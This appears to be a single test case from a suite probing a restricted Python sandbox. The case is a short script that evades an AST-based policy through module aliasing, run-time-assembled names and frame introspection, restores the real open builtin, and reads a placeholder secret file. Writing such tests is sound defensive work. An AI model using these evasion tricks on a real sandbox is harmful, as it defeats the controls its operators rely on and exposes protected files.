# id: in11-persist-builtins
# category: introspection
# effect: put the real open back into the session's builtins, then use it in a later statement
# touches_os: yes
# destructive: no
# fast: no
import typing
t = typing            # an alias: the AST policy only checks names bound by import
mods = t.sys.modules
d = "_" * 2             # dunders assembled at run time: no literal dunder in the source
ag = t.operator.attrgetter
bi = mods["builtins"]
fr = ag("_get" + "frame")(t.sys)(0)
mine = ag("f_" + "builtins")(fr)
mine["open"] = ag("op" + "en")(bi)
f = mine["open"]
print(f("{SECRET}").read())
